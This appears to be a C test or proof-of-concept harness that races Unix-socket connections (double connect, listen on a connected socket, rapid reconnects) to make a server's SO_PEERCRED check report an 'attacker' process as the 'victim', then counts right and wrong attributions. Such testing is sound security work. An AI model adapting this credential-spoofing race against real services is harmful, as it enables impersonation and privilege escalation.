/*
 * Tries to have a server take one process for another (SO_PEERCRED). Two clients connect to it all the time, send their
 * own name and go on to the next connection at once, often before the server has accepted: with the same descriptor
 * numbers, inodes that have just become free, sockets that are connected twice. forge TRIES
 *
 * Prints how often the server was told the right process, the wrong one, or none of the two.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static struct sockaddr_un address = {AF_UNIX};
static socklen_t size;

static pid_t client(char name, int patient)
{
    pid_t child = fork();
    if (child)
        return child;
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    signal(SIGPIPE, SIG_IGN);
    for (;;) {
        int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
        if (connect(fd, (struct sockaddr *)&address, size) == 0) {
            char answer;
            /* Without waiting: with a full backlog it would wait for a server that waits for the name. */
            fcntl(fd, F_SETFL, O_NONBLOCK);
            connect(fd, (struct sockaddr *)&address, size);
            fcntl(fd, F_SETFL, 0);
            /* What listens is no connection any more, so this must fail. */
            listen(fd, 1);
            write(fd, &name, 1);
            if (patient)
                read(fd, &answer, 1);
        }
        close(fd);
    }
}

int main(int argc, char **argv)
{
    if (argc != 2)
        return 2;
    long right = 0, wrong = 0, neither = 0;
    size = offsetof(struct sockaddr_un, sun_path) + 1 + sprintf(address.sun_path + 1, "forge-%d", getpid());
    int listener = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (bind(listener, (struct sockaddr *)&address, size) || listen(listener, 16)) {
        perror("listen");
        return 3;
    }
    pid_t victim = client('v', 1), attacker = client('a', 0);
    for (long i = 0; i < atol(argv[1]); i++) {
        struct ucred cred;
        socklen_t length = sizeof cred;
        char name;
        int fd = accept(listener, NULL, NULL);
        if (fd < 0 || getsockopt(fd, SOL_SOCKET, SO_PEERCRED, &cred, &length)) {
            perror("accept");
            return 3;
        }
        if (read(fd, &name, 1) == 1) {
            pid_t real = name == 'v' ? victim : attacker;
            right += cred.pid == real;
            wrong += cred.pid != real && (cred.pid == victim || cred.pid == attacker);
            neither += cred.pid != victim && cred.pid != attacker;
        }
        close(fd);
    }
    kill(victim, SIGKILL);
    kill(attacker, SIGKILL);
    printf("%ld %ld %ld\n", right, wrong, neither);
    return 0;
}
